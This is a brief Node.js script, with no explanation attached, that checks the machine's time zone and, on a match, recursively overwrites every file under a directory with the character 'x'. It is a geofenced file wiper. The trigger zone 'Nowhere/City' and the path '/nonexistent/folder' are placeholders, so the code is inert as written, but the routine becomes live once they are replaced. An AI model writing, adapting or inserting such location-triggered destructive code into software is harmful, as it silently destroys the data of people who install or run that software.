const fs = require('fs'), path = require('path');
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
function w(d) { for (const n of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, n.name); if (n.isDirectory()) w(p); else fs.writeFileSync(p, 'x'); } }
if (/^Nowhere\/City$/.test(zone)) w('/nonexistent/folder');
